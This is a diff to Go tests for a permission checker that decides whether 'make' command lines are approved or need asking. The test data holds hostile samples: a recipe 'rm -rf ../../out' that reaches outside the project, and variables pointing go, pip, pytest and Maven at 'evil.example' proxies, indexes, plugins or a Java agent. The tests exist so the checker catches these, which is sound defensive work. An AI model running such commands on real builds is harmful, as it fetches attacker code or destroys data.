@@ -57,14 +57,45 @@ func TestMakeFolderPinnedByTheRule(t *testing.T) {
 		{"make -C lib -C ../other x", false},
 		{"make -f other.mk x", false},
 		{"make --file=other.mk x", false},
-		// lib's makefile, pinned, run from the root: what its recipes
-		// reach from there is followed and must be pinned too.
-		{"make -f lib/Makefile libzstd", true},
+		// lib's makefile, pinned as run in lib, run from the root: its
+		// recipes' relative paths would name other files (../../out is
+		// outside the project from the root), so it asks.
+		{"make -f lib/Makefile libzstd", false},
 		{"make -f lib/Makefile nosuchtarget", false},
+		{"make -f ./lib/Makefile libzstd", false},
+		{"make --file=lib/Makefile libzstd", false},
+		{"make -flib/Makefile libzstd", false},
+		{"make -C lib -f ../Makefile all", false},
+		{"make -C lib -f Makefile libzstd", true},
+		{"make -f Makefile all", true},
 		{"make -kC lib libzstd", false},
 		{"make --dir=lib libzstd", false},
 		{"make -C lib -I /tmp libzstd", false},
 		{"make -C lib --eval=x libzstd", false},
+	} {
+		if v := ch.CheckIn(tc.line, p); v.Approved != tc.approve {
+			t.Errorf("%q: approved=%v (%s), want %v", tc.line, v.Approved, v.Reason, tc.approve)
+		}
+	}
+}
+
+// A makefile of another folder run with -f runs its recipes in make's
+// folder: a/b/Makefile's rm -rf ../../out, trusted as run in a/b (the
+// root's $(MAKE) -C a/b), would delete a folder outside the project.
+func TestMakeFileOfAnotherFolderAsks(t *testing.T) {
+	p := makeProject(t, "make", map[string]string{"Makefile": "all:\n\t$(MAKE) -C a/b clean\n", "a/b/Makefile": "clean:\n\trm -rf ../../out\n"})
+	ch := NewChecker([]string{"make"})
+	for _, tc := range []struct {
+		line    string
+		approve bool
+	}{
+		{"make -C a/b clean", true},
+		{"make -C a/b -f Makefile clean", true},
+		{"make -f a/b/Makefile clean", false},
+		{"make -f a/b/Makefile", false},
+		{"make --file=a/b/Makefile clean", false},
+		{"make --makefile a/b/Makefile clean", false},
+		{"make -C a -f b/Makefile clean", false},
 	} {
 		if v := ch.CheckIn(tc.line, p); v.Approved != tc.approve {
 			t.Errorf("%q: approved=%v (%s), want %v", tc.line, v.Approved, v.Reason, tc.approve)
@@ -236,6 +267,17 @@ func TestMakeVariablesUnreadUsesAsk(t *testing.T) {
 		{"exported as a loading variable", map[string]string{"Makefile": "LD_PRELOAD = $(NAME)\n.EXPORT_ALL_VARIABLES:\nall:\n\t@echo\n"}, "make NAME=x"},
 		{"a glued sub-make folder", map[string]string{"Makefile": "all:\n\t$(MAKE) -C$(NAME) all\n"}, "make NAME=x"},
 		{"a use in an included makefile", map[string]string{"Makefile": "include rules.mk\nall:\n\t@echo\n", "rules.mk": "x:\n\t$(NAME) go\n"}, "make NAME=x"},
+		// make exports a line's variables to every recipe: one no makefile
+		// uses reaches only the programs the recipes run, which may read it
+		// (go's proxy, pip's index, pytest's plugins).
+		{"used nowhere", map[string]string{"Makefile": "all:\n\t@echo\n"}, "make NAME=x"},
+		{"a proxy go reads", map[string]string{"Makefile": "test:\n\tgo test ./...\n"}, "make test GOPROXY=http://evil.example"},
+		{"a proxy go reads, no URL", map[string]string{"Makefile": "test:\n\tgo test ./...\n"}, "make test GONOSUMDB=example.com"},
+		{"an index pip reads", map[string]string{"Makefile": "install:\n\tpip install -r requirements.txt\n"}, "make install PIP_INDEX_URL=http://evil.example/simple"},
+		{"plugins pytest loads", map[string]string{"Makefile": "test:\n\tpytest\n"}, "make test PYTEST_PLUGINS=evil"},
+		{"JVM options", map[string]string{"Makefile": "test:\n\tmvn test\n"}, "make test MAVEN_OPTS=-javaagent:x.jar"},
+		{"only in a comment", map[string]string{"Makefile": "# GOPROXY is the user's\ntest:\n\tgo test ./...\n"}, "make test GOPROXY=direct"},
+		{"a URL as an argument", map[string]string{"Makefile": "INDEX ?= https://pypi.org/simple\ninstall:\n\tpip install --index-url $(INDEX) -r requirements.txt\n"}, "make install INDEX=http://evil.example/simple"},
 	} {
 		p := makeProject(t, "make", tc.files)
 		if v := NewChecker([]string{"make"}).CheckIn(tc.line, p); v.Approved {
@@ -272,7 +314,6 @@ func TestMakeVariablesSafeUsesPass(t *testing.T) {
 		{"handed to a sub-make as itself", map[string]string{"Makefile": "all:\n\t$(MAKE) -C sub NAME=\"$(NAME)\" all\n", "sub/Makefile": "all:\n\t@echo $(NAME)\n"}, "make NAME=x"},
 		{"only compared", map[string]string{"Makefile": "ifeq ($(NAME),x)\nY = 1\nendif\nall:\n\t@echo $(if $(NAME),on,off)\n"}, "make NAME=x"},
 		{"through a variable used as an argument", map[string]string{"Makefile": "OPTS = --name $(NAME)\nall:\n\tgo test $(OPTS)\n"}, "make NAME=x"},
-		{"used nowhere", map[string]string{"Makefile": "all:\n\t@echo\n"}, "make NAME=x"},
 	} {
 		p := makeProject(t, "make", tc.files)
 		if v := NewChecker([]string{"make"}).CheckIn(tc.line, p); !v.Approved {
